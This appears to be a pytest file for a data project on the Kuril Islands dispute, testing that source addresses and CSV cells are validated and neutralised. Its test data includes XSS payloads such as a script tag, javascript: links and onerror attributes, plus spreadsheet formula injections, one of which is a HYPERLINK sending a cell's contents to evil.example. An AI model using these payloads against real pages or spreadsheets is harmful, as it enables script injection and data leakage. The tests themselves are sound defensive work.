"""Nothing in the data can attack a reader: an address that is not one never reaches a page as markup,
and no cell reaches a reader's spreadsheet as a formula. The data check refuses both, and the places
that write data into links and CSV files make them harmless even where the check was skipped."""

import csv
import io
from urllib.parse import unquote

import pytest
from conftest import DATA, read_rows, set_cell, translations_of_cell
from markdown_it import MarkdownIt

from unsigned_peace.addresses import address_noise, address_problem
from unsigned_peace.bibliography import reference
from unsigned_peace.data import load_data
from unsigned_peace.escape import for_link_target, for_spreadsheet
from unsigned_peace.machinery.commands import cli
from unsigned_peace.machinery.content.charts import data_csv
from unsigned_peace.machinery.content.downloads import copy_for_spreadsheets
from unsigned_peace.paths import DATA_DIR_ENV

SCRIPT_ADDRESS = "https://tass.com/)<script>alert(document.domain)</script>"
NOT_ADDRESSES = {
    SCRIPT_ADDRESS: '"<"',
    "https://www.mofa.go.jp/a page.html": '" " (U+0020 SPACE)',
    "javascript:alert(1)": "must begin with http:// or https://",
    "https://www.mofa.go.jp/\u202ejp": "U+202E RIGHT-TO-LEFT OVERRIDE",
    "https://www.mofa.go.jp@evil.example/": "a user name before the host",
    "https:///no-host": "names no host",
    "https://www.mofa.go.jp/%zz": 'a "%" must begin an escape',
    'https://www.mofa.go.jp/"onmouseover="x': '"""',
    "https://www.mofa.go.jp/a\\b": "U+005C REVERSE SOLIDUS",
}
FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1)", "\tTab first"]


def validate_lines(folder, monkeypatch, capsys) -> list[str]:
    monkeypatch.setenv(DATA_DIR_ENV, str(folder))
    assert cli.main(["validate"]) == 1
    return capsys.readouterr().err.strip().splitlines()


@pytest.mark.parametrize("address", NOT_ADDRESSES)
def test_an_address_that_is_not_one_says_why(address):
    assert NOT_ADDRESSES[address] in address_problem(address)


@pytest.mark.parametrize("address", ["https://en.wikipedia.org/wiki/Treaty_of_Saint_Petersburg_(1875)",
                                     "https://ru.wikipedia.org/wiki/Хабомаи", "http://203.0.113.7/page?a=1&b=2#top",
                                     "https://www.mofa.go.jp/mofaj/area/hoppo/hoppo.html"])
def test_real_addresses_pass(address):
    assert address_problem(address) is None


# A real address that is not the page's own, with what the check says of it and the address it says to cite.
NOISY_ADDRESSES = {
    "https://ru.m.wikipedia.org/wiki/%D0%A5%D0%B0%D0%B1%D0%BE%D0%BC%D0%B0%D0%B8":
        ("the mobile site's address", "https://ru.wikipedia.org/wiki/%D0%A5%D0%B0%D0%B1%D0%BE%D0%BC%D0%B0%D0%B8"),
    "https://EN.M.Wikipedia.org/wiki/Habomai_Islands#History":
        ("the mobile site's address", "https://en.wikipedia.org/wiki/Habomai_Islands#History"),
    "https://en.m.wiktionary.org/wiki/island": ("the mobile site's address", "https://en.wiktionary.org/wiki/island"),
    "https://bg.m.wikipedia.org/wiki/%D0%A1%D0%BF%D0%B5%D1%86%D0%B8%D0%B0%D0%BB%D0%BD%D0%B8:MobileLanguages/"
    "%D0%98%D1%82%D1%83%D1%80%D1%83%D0%BF":
        ("the list of the article's other languages, not the article",
         "https://bg.wikipedia.org/wiki/%D0%98%D1%82%D1%83%D1%80%D1%83%D0%BF"),
    "https://en.wikipedia.org/wiki/Special:MobileLanguages/Iturup":
        ("the list of the article's other languages", "https://en.wikipedia.org/wiki/Iturup"),
    "https://www.japantimes.co.jp/news/2018/12/14/a/?utm_source=Daily+News&utm_medium=email&utm_term=0_c5":
        ("tracking parameters utm_source, utm_medium, utm_term", "https://www.japantimes.co.jp/news/2018/12/14/a/"),
    "https://tass.com/politics/1?fbclid=IwAR0x": ("tracking parameter fbclid", "https://tass.com/politics/1"),
    "https://www.mofa.go.jp/page.html?lang=ja&gclid=Cj0&yclid=77&mc_cid=a1&mc_eid=b2#top":
        ("tracking parameters gclid, yclid, mc_cid, mc_eid", "https://www.mofa.go.jp/page.html?lang=ja#top"),
}


@pytest.mark.parametrize("address", NOISY_ADDRESSES)
def test_an_address_that_is_not_the_pages_own_names_the_address_to_cite(address):
    said, canonical = NOISY_ADDRESSES[address]
    message = address_noise(address)
    assert address_problem(address) is None and message is not None
    assert said in message
    assert message.endswith(f"own address, {canonical}")
    assert address_noise(canonical) is None


@pytest.mark.parametrize("address", ["https://en.wikipedia.org/wiki/Treaty_of_Saint_Petersburg_(1875)",
                                     "https://ru.wikipedia.org/wiki/Хабомаи?oldid=123456",
                                     "https://www.mofa.go.jp/mofaj/area/hoppo/hoppo.html?lang=ja#top",
                                     "https://www.m.example/utm/page?utmost=1",
                                     "https://web.archive.org/web/2019/https://www.japantimes.co.jp/a/?utm_source=x",
                                     "javascript:alert(1)"])
def test_a_pages_own_address_passes(address):
    assert address_noise(address) is None


def test_the_validate_command_names_the_address_to_cite_instead_of_a_mobile_one(data_copy, monkeypatch, capsys):
    sources = read_rows(data_copy / "sources.csv")
    # a row read on a copy already, so that only its address changes
    copied = next(number for number, row in enumerate(sources) if number and row[sources[0].index("read_at")])
    set_cell(data_copy / "sources.csv", 1, "url", "https://en.m.wikipedia.org/wiki/Kuril_Islands_dispute?utm_source=x")
    set_cell(data_copy / "sources.csv", copied, "read_at", "https://en.m.wikipedia.org/wiki/Shikotan")
    first, second = validate_lines(data_copy, monkeypatch, capsys)
    assert first.endswith('data/sources.csv, line 2, column "url": "https://en.m.wikipedia.org/wiki/Kuril_I…" '
                          "is not the page's own address: it is the mobile site's address and carries the tracking "
                          "parameter utm_source, which says who sent a reader, not which page it is; remove it and "
                          "cite the article's own address, https://en.wikipedia.org/wiki/Kuril_Islands_dispute")
    assert (f'line {copied + 1}, column "read_at": "https://en.m.wikipedia.org/wiki/Shikotan" is not the page\'s '
            "own address: it is the mobile site's address; cite the article's own address, "
            "https://en.wikipedia.org/wiki/Shikotan") in second


def test_the_validate_command_refuses_a_script_in_an_address(data_copy, monkeypatch, capsys):
    set_cell(data_copy / "sources.csv", 1, "url", SCRIPT_ADDRESS)
    lines = validate_lines(data_copy, monkeypatch, capsys)
    assert len(lines) == 1, lines
    assert lines[0].endswith('data/sources.csv, line 2, column "url": "https://tass.com/)<script>alert(documen…" '
                             'is not a web address: it holds "<" (U+003C LESS-THAN SIGN), which no web address can '
                             "hold; percent-encode it or remove it")


def test_the_copy_an_address_was_read_at_is_checked_too(data_copy, monkeypatch, capsys):
    set_cell(data_copy / "sources.csv", 1, "read_at", "https://blog.example/a b")
    (line,) = validate_lines(data_copy, monkeypatch, capsys)
    assert 'line 2, column "read_at": "https://blog.example/a b" is not a web address' in line


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_validate_command_refuses_a_cell_a_spreadsheet_would_run(data_copy, monkeypatch, capsys, formula):
    set_cell(data_copy / "events.csv", 4, "title", formula)
    line, *stale = validate_lines(data_copy, monkeypatch, capsys)
    assert 'data/events.csv, line 5, column "title": ' in line
    assert "so a spreadsheet would run the cell as a formula" in line
    # and each edition that translates the title is told its English changed
    assert [entry.split(",")[0].rsplit("data/", 1)[-1] for entry in stale] == [
        f"translations/{language}/events.csv" for language, _path, _row in
        translations_of_cell(data_copy, "events", 4, "title")]
    assert all("the English changed since this was translated" in entry for entry in stale)


def test_a_negative_figure_is_a_number_not_a_formula():
    assert for_spreadsheet("-3.5") == "-3.5" and for_spreadsheet(-3.5) == -3.5
    assert [for_spreadsheet(cell) for cell in FORMULAS] == ["'" + cell for cell in FORMULAS]


def markdown_tokens(text: str) -> list:
    # MyST reads the book's Markdown with markdown-it, raw HTML allowed: as a notebook's output is read.
    parser = MarkdownIt("commonmark", {"html": True})
    return [child for token in parser.parse(text) for child in [token, *(token.children or [])]]


@pytest.mark.parametrize("address", [SCRIPT_ADDRESS, "https://example.org/x)'onmouseover='alert(1)",
                                     "https://example.org/<img src=x onerror=alert(1)>", "https://example.org/x\\"])
def test_a_bibliography_entry_cannot_carry_markup_whatever_its_address(address):
    source = next(load_data("sources").sources.itertuples(index=False))._replace(url=address)
    tokens = markdown_tokens(reference(source))
    assert not [token for token in tokens if token.type.startswith("html")]
    links = [token.attrs["href"] for token in tokens if token.type == "link_open"]
    assert links == [for_link_target(address)] and unquote(links[0]) == address


def test_a_link_to_anything_but_the_web_is_no_link():
    source = next(load_data("sources").sources.itertuples(index=False))._replace(url="javascript:alert(1)")
    assert not [token for token in markdown_tokens(reference(source)) if token.type == "link_open"]


def test_a_charts_data_file_writes_formulas_as_text():
    text = data_csv({"columns": ["Year", "=Title"], "rows": [[1956, "=HYPERLINK(1)"], [-5, "-5"], [2, "@x"]]})
    assert list(csv.reader(io.StringIO(text))) == [["Year", "'=Title"], ["1956", "'=HYPERLINK(1)"],
                                                   ["-5", "-5"], ["2", "'@x"]]


def test_the_data_packages_files_are_copied_byte_for_byte_and_a_formula_that_got_past_the_check_as_text(tmp_path):
    events = DATA / "events.csv"
    copy_for_spreadsheets(events, tmp_path / "events.csv")
    assert (tmp_path / "events.csv").read_bytes() == events.read_bytes()

    hostile = tmp_path / "hostile.csv"
    hostile.write_text("id,title\na,=HYPERLINK(1)\nb,-7\n", encoding="utf-8")
    copy_for_spreadsheets(hostile, tmp_path / "copy.csv")
    assert read_rows(tmp_path / "copy.csv") == [["id", "title"], ["a", "'=HYPERLINK(1)"], ["b", "-7"]]
